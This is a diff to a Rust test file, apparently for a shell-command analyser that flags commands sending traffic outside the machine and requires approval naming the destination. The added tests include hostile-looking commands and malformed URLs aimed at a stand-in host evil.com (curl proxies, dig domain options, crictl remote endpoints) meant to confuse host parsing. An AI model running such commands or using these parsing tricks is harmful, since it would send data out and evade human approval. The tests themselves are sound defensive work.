@@ -123,6 +123,8 @@ fn urls_give_the_host_curl_connects_to() {
         assert_eq!(url_host(url).as_deref(), Some(host), "{url}");
     }
     assert_eq!(url_host("http://a@b@evil.com/"), None);
+    assert_eq!(url_host("http:\\\\evil.com"), None);
+    assert_eq!(url_host("localhost:x/y"), None);
     assert_eq!(url_host("http://evil.com:80:80/"), None);
     assert_eq!(host_of_host_port("[::1]:443"), vec!["[::1]".to_string()]);
     assert_eq!(host_of_host_port("evil.com:443"), vec!["evil.com".to_string()]);
@@ -171,6 +173,9 @@ fn reads_that_send_outside_need_approval_naming_the_destination() {
             ("tcpdump -nn -c 5 -i any 'host secret.evil.com and port 443'", "secret.evil.com"),
             ("resolvectl query secret.evil.com", "secret.evil.com"),
             ("whois secret.evil.com", "secret.evil.com"),
+            ("dig +search +domain=evil.com secret", "evil.com"),
+            ("dig +search +dom=evil.com secret", "evil.com"),
+            ("crictl -r tcp://evil.com:2375 ps", "evil.com"),
         ] {
             let a = analyze(cmd);
             assert!(!a.is_read_only(), "{cmd}");
@@ -185,6 +190,13 @@ fn reads_that_send_outside_need_approval_naming_the_destination() {
                 "{cmd}: exact key"
             );
         }
+        for cmd in ["curl -x 'http:\\\\evil.com' http://localhost/", "curl -s 'http://a@b@evil.com/'", "ping -c1 $HOST"]
+        {
+            let a = analyze(cmd);
+            assert!(!a.is_read_only(), "{cmd}");
+        }
+        let a = analyze("curl -x 'http:\\\\evil.com' http://localhost/");
+        assert!(a.reasons.iter().any(|r| r.contains("cannot tell which host")), "{:?}", a.reasons);
         for cmd in [
             "curl -s http://localhost:8080/health",
             "curl -s 'http://[::1]:8080/metrics'",
@@ -211,6 +223,8 @@ fn reads_that_send_outside_need_approval_naming_the_destination() {
             "curl --interface eth0 http://localhost/",
             "ping -c1 -I eth0 10.0.0.1",
             "dig @10.0.0.2#5353 db01",
+            "dig +time=2 +tries=1 +subnet=10.0.0.0/24 db01",
+            "crictl -r unix:///run/containerd/containerd.sock ps",
         ] {
             let a = analyze(cmd);
             assert!(a.is_read_only(), "{cmd}: {:?}", a.reasons);
